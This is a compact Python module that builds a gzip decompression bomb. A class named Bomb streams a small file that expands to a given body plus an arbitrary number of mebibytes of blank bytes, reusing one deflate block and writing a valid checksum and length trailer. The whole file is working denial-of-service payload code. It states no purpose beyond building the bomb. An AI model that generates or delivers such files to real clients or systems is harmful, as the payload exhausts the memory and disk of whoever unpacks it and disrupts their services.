"""A gzip file that is small and unpacks to something huge, made piece by piece."""

import zlib
from collections.abc import Iterator
from functools import cache
from typing import Final

MIB: Final = 1 << 20
_BLANKS: Final = b" " * MIB
_HEAD: Final = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # RFC 1952: deflate, no flags, best compression, no system


class Bomb:
    """A gzip file of a body and so many MiB of blanks behind it.

    Its blocks end on a byte and begin with nothing remembered, so that one block of blanks serves again and again.
    """

    def __init__(self, body: bytes, mebibytes: int) -> None:
        self._body, self._blocks = body, mebibytes
        packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        self._first = _HEAD + packer.compress(body) + packer.flush(zlib.Z_FULL_FLUSH)
        self._last = packer.flush(zlib.Z_FINISH)

    @property
    def size(self) -> int:
        """The length of the file in bytes."""
        return len(self._first) + self._blocks * len(_block()) + len(self._last) + 8

    def __iter__(self) -> Iterator[bytes]:
        checksum = zlib.crc32(self._body)
        yield self._first
        for _ in range(self._blocks):
            checksum = zlib.crc32(_BLANKS, checksum)
            yield _block()
        length = (len(self._body) + self._blocks * MIB) % (1 << 32)
        yield self._last + checksum.to_bytes(4, "little") + length.to_bytes(4, "little")


@cache
def _block() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(_BLANKS) + packer.flush(zlib.Z_FULL_FLUSH)
